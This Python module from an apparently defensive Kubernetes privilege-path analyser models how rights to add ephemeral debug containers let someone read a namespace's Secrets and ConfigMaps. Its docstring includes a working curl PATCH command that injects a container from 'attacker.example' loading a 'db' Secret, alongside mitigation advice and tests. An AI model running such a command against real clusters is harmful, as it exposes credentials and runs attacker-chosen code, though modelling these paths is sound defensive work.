r"""A debug container joins a running pod with an image, variables and mounts of the attacker's choice.

It sees the pod's volumes and token, and may name any Secret and ConfigMap of the namespace in its own variables,
whether or not the pod used it before: as much as creating a pod, but for the ServiceAccount, which is the pod's.

## Needs

``update`` or ``patch`` on ``pods/ephemeralcontainers`` of a pod that runs; ``get`` on it is convenient, not needed.
Pod Security judges debug containers as it does others.

## Exploited

```console
$ curl -X PATCH "$API/api/v1/namespaces/shop/pods/web-0/ephemeralcontainers" -H "Authorization: Bearer $TOKEN" \
    -H 'Content-Type: application/strategic-merge-patch+json' -d '{"spec": {"ephemeralContainers": [{"name": "peek",
    "image": "attacker.example/peek", "envFrom": [{"secretRef": {"name": "db"}}]}]}}'
```

## Closed

Give ``pods/ephemeralcontainers`` for an incident only, as ``pods/exec``; count it as running pods in the namespace.

## Demonstrated

The test control plane has no kubelet. The test adds a debug container that names the Secret to a pod that does not
use it; only then may the kubelet of the pod's node read the Secret.

## References

- https://kubernetes.io/docs/concepts/workloads/pods/ephemeral-containers/
- https://kubernetes.io/docs/reference/access-authn-authz/node/
"""

from __future__ import annotations

from collections.abc import Iterator

from strongroom.access.arrivals import into_pods
from strongroom.access.way import Way
from strongroom.access.world import World, grounds, who
from strongroom.model.access import Power, Step, power


def steps(world: World) -> Iterator[Step]:
    """Yield who adds debug containers to which pods, and with them reads every Secret and ConfigMap beside them."""
    for permission in world.holders("", "pods/ephemeralcontainers", "update", "patch"):
        note = "update or patch pods/ephemeralcontainers"
        yield from into_pods(world, WAY.id, permission, note)
        spaces = [permission.namespace]
        if permission.names:
            spaces = [code.namespace for code in world.code_of_pods(permission.namespace, permission.names)]
        for namespace in dict.fromkeys(spaces):
            for what in (Power.READ_SECRETS, Power.READ_CONFIG_MAPS):
                yield Step(who(permission), power(what, namespace), WAY.id, grounds(permission, note), note=note)


WAY = Way("pods-ephemeral-containers", "adds a debug container to a running pod", ("T1609", "T1610"), steps)
